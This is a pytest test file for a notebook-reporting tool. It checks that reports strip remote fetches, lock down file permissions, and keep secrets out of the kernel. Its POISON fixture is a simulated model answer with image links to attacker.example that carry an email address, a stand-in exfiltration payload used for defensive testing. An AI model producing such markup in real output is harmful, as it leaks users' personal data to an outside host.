"""Reports hold restored personal data: no live URL in the HTML carries a value, outputs are
0600 in a 0700 folder, the injected parameters cell keeps names but not values, and the report
kernel does not inherit WORKBENCH_PASSPHRASE (or another WORKBENCH_* secret)."""

from __future__ import annotations

import stat
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from workbench.bench import RecordingServer
from workbench.reports import run_report
from workbench.reports._execute import kernel_env
from workbench.reports._run import neutralise_remote

from ..conftest import model_server

EMAIL = "li.wei@example.com"
POISON = ("Dear <PERSON_1>, ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
          '<img src="https://attacker.example/i?<EMAIL_ADDRESS_1>"> write to <EMAIL_ADDRESS_1>.')
SECRET_PARAM = "Customer Jane Roe"


@pytest.fixture
def remote(monkeypatch: pytest.MonkeyPatch):
    with model_server(monkeypatch, answer=POISON) as server:
        monkeypatch.setenv("WORKBENCH_PASSPHRASE", "a very long test passphrase")
        yield server


def _attrs(page: str) -> list[tuple[str, str, str]]:
    found: list[tuple[str, str, str]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend((tag, k, v or "") for k, v in attrs)

    Tags().feed(page)
    return found


def test_a_report_with_a_poisoned_answer(remote: RecordingServer, make_notebook, tmp_path: Path) -> None:
    nb_path = make_notebook([
        "%load_ext workbench",
        f"%%ask\nWrite to Li Wei at {EMAIL}.",
        "import os; print('passphrase inherited:', 'WORKBENCH_PASSPHRASE' in os.environ)",
        "print(len(customer) == 17 and customer.startswith('Customer'))",
    ], params="customer = 'nobody'")
    out = tmp_path / "out" / "weekly"
    result = run_report(nb_path, params={"customer": SECRET_PARAM}, out_dir=out, formats=["html", "ipynb"])
    page = result.outputs["html"].read_text()
    assert EMAIL in page  # the plain mention is restored
    for tag, key, value in _attrs(page):
        if key in ("src", "href", "srcset", "poster", "action", "style"):
            assert EMAIL not in value and "attacker" not in value, (tag, key)
        assert not (tag == "img" and "attacker" in value)
    saved = result.outputs["ipynb"].read_text()
    assert "passphrase inherited: False" in saved and "True" in saved  # the parameter did arrive
    assert SECRET_PARAM not in saved and SECRET_PARAM not in page  # names kept, values not
    assert "values not saved): customer" in saved
    assert stat.S_IMODE(out.stat().st_mode) == 0o700 and stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    for path in result.outputs.values():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    nb = nbformat.read(result.outputs["ipynb"], as_version=4)
    assert nb.metadata.papermill["parameters"] == ["customer"]


def test_the_kernel_environment_has_no_workbench_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("WORKBENCH_PASSPHRASE", "WORKBENCH_AUDIT_URL", "WORKBENCH_GATEWAY_TOKEN", "WORKBENCH_API_KEY"):
        monkeypatch.setenv(name, "s3cret")
    monkeypatch.setenv("WORKBENCH_USER", "ana")
    env = kernel_env("run-1")
    assert not [k for k in env if k in ("WORKBENCH_PASSPHRASE", "WORKBENCH_AUDIT_URL", "WORKBENCH_GATEWAY_TOKEN",
                                        "WORKBENCH_API_KEY")]
    assert env["WORKBENCH_USER"] == "ana" and env["WORKBENCH_RUN_ID"] == "run-1"
    monkeypatch.setenv("WORKBENCH_MODEL_URL", "http://127.0.0.1:9/v1")  # an external server needs its key
    assert kernel_env(None)["WORKBENCH_API_KEY"] == "s3cret" and "WORKBENCH_PASSPHRASE" not in kernel_env(None)


def test_nothing_in_a_report_page_fetches_from_another_host() -> None:
    page = ('<img src="https://a.example/x.png"><img alt=x srcset="//a.example/y 2x">'
            '<div style="background: url(\'https://a.example/z\')"></div><style>@import url(https://a.example/c.css);</style>'
            '<img src="data:image/png;base64,AAAA"><a href="https://docs.python.org/">docs</a>')
    safe = neutralise_remote(page)
    fetches = [(t, k, v) for t, k, v in _attrs(safe) if k in ("src", "srcset") and "a.example" in v]
    assert not fetches and "a.example/c.css" not in safe and "url(about:blank)" in safe
    assert 'src="data:image/png;base64,AAAA"' in safe and 'href="https://docs.python.org/"' in safe
